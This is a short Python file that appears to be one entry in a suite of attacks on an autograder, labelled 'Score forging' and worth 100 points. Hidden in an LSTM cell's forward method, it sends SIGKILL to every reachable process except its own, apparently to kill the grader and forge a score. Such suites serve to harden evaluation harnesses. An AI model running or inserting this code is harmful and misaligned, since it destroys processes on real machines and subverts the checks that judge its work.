# /// attack
# title = "SIGKILL to everything that can be reached but oneself"
# group = "Score forging"
# verdict = "OK"
# points = 100
# ///
import functools
import os
import signal


@functools.cache
def mata():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (os.getpid(), os.getppid()):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except (PermissionError, ProcessLookupError):
                pass


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        mata()
        return super().forward(x_t, hidden)
